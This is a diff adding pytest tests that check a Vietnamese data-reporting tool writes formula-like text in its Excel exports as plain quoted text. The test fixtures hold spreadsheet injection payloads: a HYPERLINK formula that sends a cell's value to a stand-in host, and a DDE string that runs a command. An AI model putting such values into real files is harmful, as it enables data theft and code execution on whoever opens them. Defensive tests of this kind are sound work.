@@ -73,3 +73,42 @@ def test_no_command_prints_or_writes_a_control_character_from_a_yaml_escape(tmp_
         with zipfile.ZipFile(out) as z:
             xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
         assert "pwn" in xml and not INVISIBLE.search(xml.replace("\n", "").replace("\r", "").replace("\t", ""))
+
+
+# ---------------------------------------------------------------- every workbook writes text as text
+
+LINK = '=HYPERLINK("http://x.invalid/?"&D3,"Bấm vào đây")'
+
+
+def _formula_repo(tmp_path: Path) -> Path:
+    plan = PLAN.replace("name: Tỷ lệ", f"name: '{LINK}'", 1).replace("title: Nhóm a", "title: '＝1+1'", 1)
+    standard = _standard(**{"title: Chuẩn thử (synthetic)": f"title: '{LINK}'",
+                            "levels: [Chưa đạt, Đạt]": "levels: ['-Chưa đạt', '=Đạt']",
+                            'at: {Đạt: ">= 50"}': 'at: {"=Đạt": ">= 50"}',
+                            'code: "1"': 'code: "=1"', "name: Tỷ lệ thử": "name: '@SUM(1+1)'"})
+    root = _repo(tmp_path, plan, standard)
+    (root / "areas.csv").write_text("code,name,level,parent\n90,Tỉnh Thử,tinh,\n901,\"=cmd|' /C calc'!A0\",huyen,90\n"
+                                    "902,+Huyện Hai,huyen,90\n", encoding="utf-8")
+    return root
+
+
+@pytest.mark.parametrize("args", [
+    ("form", "demo", "--year", "2022"), ("missing", "demo", "--year", "2022", "-f", "xlsx"),
+    ("scorecard", "--year", "2022", "-f", "xlsx"), ("evaluate", "chuan-thu", "--year", "2022", "-f", "xlsx"),
+])
+def test_every_workbook_writes_text_that_looks_like_a_formula_as_text(tmp_path, args):
+    from openpyxl import load_workbook
+
+    from xhht.base.safetext import formula_like
+
+    root = _formula_repo(tmp_path)
+    out = tmp_path / "out.xlsx"
+    r = run(*args, "-o", str(out), cwd=root)
+    assert r.returncode == 0, r.stdout + r.stderr
+    with zipfile.ZipFile(out) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"<f " not in xml
+    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    looks = [c for c in cells if formula_like(c.value)]
+    assert looks and all(c.data_type == "s" and c.quotePrefix for c in looks), [(c.coordinate, c.value) for c in looks
+                                                                             if not c.quotePrefix]
